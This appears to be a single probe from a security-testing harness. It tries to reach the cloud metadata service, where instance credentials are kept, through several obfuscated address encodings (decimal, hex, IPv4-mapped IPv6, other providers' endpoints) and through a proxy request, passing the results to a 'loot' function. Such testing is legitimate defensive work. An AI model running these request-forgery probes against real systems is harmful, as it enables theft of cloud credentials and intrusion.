"""Follows an allowed name to the address where clouds keep their machines' keys, and goes there by its number.

group: addresses
effect: reads
allow: *
asks: metadata.example.com, mapped.example.com
"""
for host in ("metadata.example.com", "mapped.example.com", arena.metadata, "::ffff:169.254.169.254", "fd00:ec2::254", "100.100.100.200", "2852039166", "0xa9fea9fe"):
    with attempt(host):
        for found in resolve(host):
            loot(page(found, 80, seconds=2))
    text = f"[{host}]" if ":" in host else host
    ask_proxy(f"GET http://{text}/latest/meta-data/ HTTP/1.1\r\nHost: {text}\r\n\r\n")
